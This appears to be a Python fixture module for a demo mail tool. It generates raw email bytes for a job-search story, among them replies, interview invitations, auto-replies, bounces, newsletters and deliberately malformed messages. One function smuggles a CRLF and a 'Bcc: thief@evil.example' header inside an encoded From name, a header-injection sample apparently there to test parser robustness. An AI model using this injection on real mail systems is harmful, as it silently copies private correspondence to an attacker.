"""What do the story's mails look like on the wire? Ordinary ones are composed; the hostile ones are given byte by byte."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, formataddr

from replydue.demo.cast import JOBS_ADDRESS, ME, Person


@dataclass
class Thread:
    """What a mail program knows of a thread when it answers in it."""

    subject: str
    ids: list[str] = field(default_factory=list)  # Message-IDs, oldest first
    last: str = ""  # the newest mail, as it is quoted below the next one


@dataclass(frozen=True)
class Mail:
    """One mail of the story. `sender` None is Alex. `meeting` adds a calendar invitation that starts then, an hour long."""

    words: str
    sender: Person | None = None
    to: str = ""
    meeting: datetime | None = None
    hostile_name: bool = False
    broken: bool = False


def composed(mail: Mail, thread: Thread, other: Person, at: datetime) -> bytes:
    """The mail as bytes, in its thread; the thread grows by it. `other` is whom Alex writes to."""
    sender = mail.sender or ME
    message = EmailMessage(policy=SMTP)
    message["From"] = formataddr((sender.name, sender.address))
    message["To"] = formataddr((other.name, other.address)) if mail.sender is None else mail.to or formataddr((ME.name, ME.address))
    message["Subject"] = f"Re: {thread.subject}" if thread.ids else thread.subject
    message["Date"] = format_datetime(at)
    message["Message-ID"] = f"<{at:%Y%m%d%H%M}.{sender.address}>"
    if thread.ids:
        message["In-Reply-To"] = thread.ids[-1]
        message["References"] = " ".join(thread.ids)
    text = f"{mail.words}\n\n{sender.closing}"
    message.set_content(f"{text}\n{_quoted(thread)}", cte="quoted-printable")
    if mail.meeting:
        _invite(message, mail.meeting, sender, thread)
    thread.ids.append(str(message["Message-ID"]))
    thread.last = f"On {at:%a, %b %d, %Y} at {at:%I:%M %p} {sender.name} <{sender.address}> wrote:\n\n{text}"
    return _made_hostile(bytes(message), mail, sender)


def _quoted(thread: Thread) -> str:
    above, _, body = thread.last.partition("\n\n")
    return f"\n{above}\n\n" + "\n".join(f"> {line}".rstrip() for line in body.splitlines()) + "\n" if above else ""


def _invite(message: EmailMessage, start: datetime, sender: Person, thread: Thread) -> None:
    """A calendar part as hiring teams send it (RFC 6047)."""
    lines = (
        "BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Northwind//Calendar//EN", "METHOD:REQUEST", "BEGIN:VEVENT",
        f"UID:{start:%Y%m%d%H%M}@{sender.address.partition('@')[2]}", f"DTSTAMP:{start - timedelta(days=5):%Y%m%dT%H%M%SZ}",
        f"DTSTART:{start.astimezone(UTC):%Y%m%dT%H%M%SZ}", f"DTEND:{(start + timedelta(hours=1)).astimezone(UTC):%Y%m%dT%H%M%SZ}",
        f"SUMMARY:Interview: {thread.subject}", f"ORGANIZER;CN={sender.name}:mailto:{sender.address}", f"ATTENDEE;CN={ME.name}:mailto:{ME.address}",
        "SEQUENCE:0", "STATUS:CONFIRMED", "END:VEVENT", "END:VCALENDAR", "",
    )  # fmt: skip
    message.add_alternative("\r\n".join(lines), subtype="calendar", params={"method": "REQUEST"})


def _made_hostile(raw: bytes, mail: Mail, sender: Person) -> bytes:
    if mail.hostile_name:  # an encoded word that hides a line break and a second header
        name = sender.name.replace(" ", "_")
        hidden = f"From: =?utf-8?q?{name}=0D=0ABcc=3A_thief=40evil.example?= <{sender.address}>"
        head, _, rest = raw.partition(b"\r\n")
        return hidden.encode() + b"\r\n" + rest if head.startswith(b"From:") else raw
    if mail.broken:  # a charset that does not exist, bytes that fit none, and a boundary that never comes
        head, _, body = raw.partition(b"\r\n\r\n")
        kept = [line for line in head.split(b"\r\n") if not line.lower().startswith((b"content-", b"mime-version"))]
        kept += [b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="never"']
        part = b'--never\r\nContent-Type: text/plain; charset="x-none"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n'
        return b"\r\n".join(kept) + b"\r\n\r\n" + part + body.replace(b"\r\nWarm", b"\r\n\xff\xfe\x81\r\nWarm")
    return raw


def out_of_office(person: Person, thread: Thread, at: datetime, words: str) -> bytes:
    """An answer by machine, as Exchange writes it (RFC 3834)."""
    message = EmailMessage(policy=SMTP)
    message["From"] = formataddr((person.name, person.address))
    message["To"] = formataddr((ME.name, ME.address))
    message["Subject"] = f"Automatic reply: {thread.subject}"
    message["Date"] = format_datetime(at)
    message["Message-ID"] = f"<{at:%Y%m%d%H%M}.auto.{person.address}>"
    message["In-Reply-To"] = thread.ids[-1]
    message["References"] = " ".join(thread.ids)
    message["Auto-Submitted"] = "auto-replied"
    message["X-Auto-Response-Suppress"] = "All"
    message.set_content(words)
    return bytes(message)


def bounce(person: Person, thread: Thread, at: datetime) -> bytes:
    """A permanent failure for the newest mail of the thread (RFC 3464)."""
    domain = ME.address.partition("@")[2]
    return (
        f"From: Mail Delivery Subsystem <mailer-daemon@{domain}>\r\nTo: {ME.address}\r\nSubject: Delivery Status Notification (Failure)\r\n"
        f"Date: {format_datetime(at)}\r\nMessage-ID: <{at:%Y%m%d%H%M}.dsn@{domain}>\r\nIn-Reply-To: {thread.ids[-1]}\r\nReferences: {' '.join(thread.ids)}\r\n"
        f"Return-Path: <>\r\nAuto-Submitted: auto-replied\r\nX-Failed-Recipients: {person.address}\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"\r\n\r\n'
        "--dsn\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"Address not found\r\n\r\nYour message wasn't delivered to {person.address} because the address couldn't be found.\r\n"
        "--dsn\r\nContent-Type: message/delivery-status\r\n\r\n"
        f"Reporting-MTA: dns; mx.{domain}\r\n\r\nFinal-Recipient: rfc822; {person.address}\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        "Diagnostic-Code: smtp; 550 5.1.1 User unknown\r\n"
        f"--dsn\r\nContent-Type: message/rfc822\r\n\r\nFrom: {ME.address}\r\nTo: {person.address}\r\nSubject: Re: {thread.subject}\r\n"
        f"Message-ID: {thread.ids[-1]}\r\n\r\n(cut)\r\n--dsn--\r\n"
    ).encode()


def newsletter(person: Person, at: datetime, subject: str, words: str) -> bytes:
    """Bulk mail, with the headers that bulk mail has (RFC 2369, 8058)."""
    message = EmailMessage(policy=SMTP)
    message["From"] = formataddr((person.name, person.address))
    message["To"] = JOBS_ADDRESS
    message["Subject"] = subject
    message["Date"] = format_datetime(at)
    message["Message-ID"] = f"<{at:%Y%m%d%H%M}.{person.address}>"
    message["List-Unsubscribe"] = f"<https://{person.address.partition('@')[2]}/unsubscribe>"
    message["List-Unsubscribe-Post"] = "List-Unsubscribe=One-Click"
    message["Precedence"] = "bulk"
    message.set_content(f"{words}\n\n{person.closing}")
    return bytes(message)


def wreckage(at: datetime) -> bytes:
    """What no mail program would send: no sender, no body, headers cut in the middle."""
    return (
        f"Date: {format_datetime(at)}\r\nSubject: =?utf-8?b?@@@\r\nContent-Type: multipart/alternative; boundary=\r\n\r\n".encode()
        + bytes(range(128, 256))
        + b"\r\n--\r\n"
    )
